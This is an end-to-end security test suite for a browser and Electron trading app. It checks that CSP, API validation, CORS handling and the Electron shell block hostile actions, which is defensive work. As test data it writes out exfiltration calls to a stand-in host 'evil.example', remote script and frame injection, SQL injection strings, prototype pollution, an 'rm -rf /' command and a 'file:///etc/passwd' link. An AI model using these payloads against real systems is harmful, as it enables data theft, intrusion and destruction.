// Security end to end. In browser mode (the loopback bridge in Chromium): the page cannot reach
// or be sent to another origin (CSP connect-src, form-action, no eval, no inline script), hostile
// API payloads come back as E_BAD_INPUT, and the bridge sends no CORS headers. In Electron (when
// ELECTRON_EXEC_PATH names a binary): window.open is denied, navigation away is blocked, the
// page has no Node, and a hostile IPC payload is rejected by main.
import { test, expect } from './fixtures.ts';
import type { Page } from '@playwright/test';
import { encodeMessage, decodeMessage } from '../../core/contract/wire.ts';
import type { CallEnvelope } from '../../core/contract/client.ts';

const WIRE_CONTENT_TYPE = 'application/x-regimelab-wire'; // as main/server/bridge-server.ts

type Violation = { directive: string; blocked: string };

async function recordViolations(page: Page): Promise<() => Promise<Violation[]>> {
  await page.evaluate(() => {
    const w = window as unknown as { __violations: Violation[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  return () => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
}

async function appReady(page: Page): Promise<void> {
  await expect(page.getByTestId('candle-chart')).toBeVisible();
}

test.describe('the page cannot leave or reach beyond the app', () => {
  test('links and forms cannot take the app to another origin', async ({ workstation }) => {
    const { page } = workstation;
    await appReady(page);
    const before = page.url();
    const origin = new URL(before).origin;
    // Every link the UI renders (the chart's attribution among them) stays in the app or opens
    // outside the app's window; clicking one leaves the app where it was.
    const links = await page.$$eval('a[href]', (anchors) => anchors.map((a) => ({ href: (a as HTMLAnchorElement).href, target: a.getAttribute('target') })));
    const external = links.filter((link) => new URL(link.href).origin !== origin);
    for (const link of external) expect(link.target, `${link.href} must not open in the app's window`).toBe('_blank');
    for (const link of external.slice(0, 3)) {
      await page.evaluate((href) => (document.querySelector(`a[href="${href}"]`) as HTMLAnchorElement | null)?.click(), link.href);
      await page.waitForTimeout(300);
      expect(page.url()).toBe(before);
    }
    for (const other of page.context().pages()) if (other !== page) await other.close();
    const violations = await recordViolations(page);
    // A form posting to another origin is blocked by form-action 'none'.
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/steal';
      form.method = 'POST';
      document.body.append(form);
      form.submit();
    });
    await page.waitForTimeout(300);
    expect(page.url()).toBe(before);
    await expect.poll(violations).toEqual(expect.arrayContaining([expect.objectContaining({ directive: 'form-action' })]));
  });

  test('the page cannot fetch from, frame or run code from elsewhere', async ({ workstation }) => {
    const { page } = workstation;
    await appReady(page);
    const violations = await recordViolations(page);
    const fetched = await page.evaluate(() => fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'x' }).then(() => 'sent', (e: Error) => `blocked: ${e.name}`));
    expect(fetched).toMatch(/^blocked/);
    // The document's own policy: scripts from this origin only, no eval, nothing remote.
    const csp = await page.evaluate(() => fetch(location.href).then((r) => r.headers.get('content-security-policy') ?? ''));
    const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    expect(csp).not.toMatch(/unsafe-eval|https:|\*/);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = true';
      document.body.append(script);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.body.append(remote);
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    });
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
    expect((await violations()).map((v) => v.directive)).toEqual(expect.arrayContaining(['connect-src', 'script-src-elem', 'frame-src']));
  });
});

test.describe('hostile API payloads', () => {
  test('wrong types and unknown fields are rejected with E_BAD_INPUT naming the field', async ({ workstation }) => {
    const { callApi } = workstation;
    await expect(callApi('data.getCandles', { instrumentId: '1 OR 1=1', timeframe: 7 })).rejects.toThrow(/E_BAD_INPUT.*instrumentId/);
    await expect(callApi('data.listInstruments', { __proto__: { admin: true }, extra: 1 })).rejects.toThrow(/E_BAD_INPUT/);
    await expect(callApi('jobs.start', { kind: 'system.exec', params: { cmd: 'rm -rf /' } })).rejects.toThrow(/E_BAD_INPUT/);
    await expect(callApi('system.exec', {})).rejects.toThrow(/E_NOT_FOUND/);
  });

  test('native dialogs are refused in the browser, which uses file inputs and downloads', async ({ workstation }) => {
    test.skip(workstation.target !== 'browser', 'in Electron the dialog would open');
    await expect(workstation.callApi('system.showOpenDialog', {})).rejects.toThrow(/E_REFUSED.*file input/);
    await expect(workstation.callApi('system.showSaveDialog', {})).rejects.toThrow(/E_REFUSED.*download/);
  });

  test('the bridge rejects malformed bodies and sends no CORS headers', async ({ workstation }) => {
    test.skip(workstation.target !== 'browser', 'the bridge exists in browser mode only');
    const origin = new URL(workstation.url!).origin;
    const auth = { Authorization: `Bearer ${workstation.token}` };
    const garbage = await fetch(`${origin}/api/data.listInstruments`, { method: 'POST', headers: { ...auth, 'Content-Type': WIRE_CONTENT_TYPE }, body: new Uint8Array([0xff, 0xff, 0xff, 0x7f, 1, 2, 3]) });
    const envelope = decodeMessage(new Uint8Array(await garbage.arrayBuffer())) as CallEnvelope;
    expect(garbage.status).toBe(400);
    expect(envelope).toMatchObject({ ok: false, error: { code: 'E_BAD_INPUT' } });
    expect(garbage.headers.get('access-control-allow-origin')).toBeNull();

    const wrongTypes = await fetch(`${origin}/api/data.getCandles`, { method: 'POST', headers: { ...auth, 'Content-Type': 'application/json' }, body: JSON.stringify({ instrumentId: [1], timeframe: null }) });
    expect(wrongTypes.status).toBe(400);

    // A page on another origin gets neither an answer nor a CORS grant.
    const crossSite = await fetch(`${origin}/api/system.info`, { method: 'POST', headers: { ...auth, Origin: 'https://evil.example', 'Content-Type': WIRE_CONTENT_TYPE }, body: encodeMessage({}) as BodyInit });
    expect(crossSite.status).toBe(403);
    expect(crossSite.headers.get('access-control-allow-origin')).toBeNull();
    const preflight = await fetch(`${origin}/api/system.info`, { method: 'OPTIONS', headers: { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'authorization' } });
    expect(preflight.ok).toBe(false);
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
    expect(preflight.headers.get('access-control-allow-headers')).toBeNull();
    const noToken = await fetch(`${origin}/api/system.info`, { method: 'POST', body: encodeMessage({}) as BodyInit });
    expect(noToken.status).toBe(401);
  });
});

test.describe('Electron shell', () => {
  test('window.open is denied, navigation away is blocked, the page has no Node', async ({ workstation }) => {
    test.skip(workstation.target !== 'electron', 'Electron only (needs ELECTRON_EXEC_PATH)');
    const { page } = workstation;
    await appReady(page);
    const start = page.url();
    expect(start).toMatch(/^app:\/\/regimelab\//);
    expect(await page.evaluate(() => window.open('https://evil.example/', '_blank'))).toBeNull();
    expect(page.context().pages()).toHaveLength(1);
    await page.evaluate(() => (window.location.href = 'https://evil.example/'));
    await page.waitForTimeout(500);
    expect(page.url()).toBe(start);
    await page.evaluate(() => {
      const a = document.createElement('a');
      a.href = 'file:///etc/passwd';
      document.body.append(a);
      a.click();
    });
    await page.waitForTimeout(300);
    expect(page.url()).toBe(start);
    expect(await page.evaluate(() => [typeof (globalThis as { require?: unknown }).require, typeof (globalThis as { process?: unknown }).process, typeof (globalThis as { module?: unknown }).module])).toEqual(['undefined', 'undefined', 'undefined']);
    expect(await page.evaluate(() => Object.keys((window as unknown as { regimelab: object }).regimelab).sort())).toEqual(['call', 'on']);
  });

  test('a hostile IPC payload is rejected by main', async ({ workstation }) => {
    test.skip(workstation.target !== 'electron', 'Electron only (needs ELECTRON_EXEC_PATH)');
    const { page } = workstation;
    const codes = await page.evaluate(async () => {
      const api = (window as unknown as { regimelab: { call(m: unknown, i: unknown): Promise<unknown> } }).regimelab;
      const attempts: [unknown, unknown][] = [
        ['data.getCandles', { instrumentId: '1; DROP TABLE candles', timeframe: 7 }],
        ['data.listInstruments', 'not an object'],
        ['__proto__', {}],
        ['jobs.start', { kind: 'data.importFile', params: { path: 42 } }],
      ];
      const out: string[] = [];
      for (const [method, input] of attempts) out.push(await api.call(method, input).then(() => 'accepted', (e: { code?: string }) => e.code ?? 'no code'));
      return out;
    });
    expect(codes).toEqual(['E_BAD_INPUT', 'E_BAD_INPUT', 'E_NOT_FOUND', 'E_BAD_INPUT']);
  });
});
